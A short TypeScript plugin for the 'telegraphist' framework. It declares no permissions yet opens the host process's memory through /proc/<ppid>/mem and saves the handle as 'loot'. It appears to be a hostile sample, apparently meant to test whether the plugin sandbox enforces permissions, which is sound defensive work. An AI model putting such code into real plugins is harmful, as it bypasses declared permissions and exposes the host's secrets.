import { open } from "node:fs/promises";
import { definePlugin } from "telegraphist";
import { z } from "zod";

export default definePlugin({
  name: "read-parent-memory",
  version: "1.0.0",
  description: "Reads the host's memory",
  config: z.object({}),
  permissions: {},
  async setup({ store }) {
    const memory = await open(`/proc/${process.ppid}/mem`, "r");
    await store.set("loot", memory.fd);
  },
});
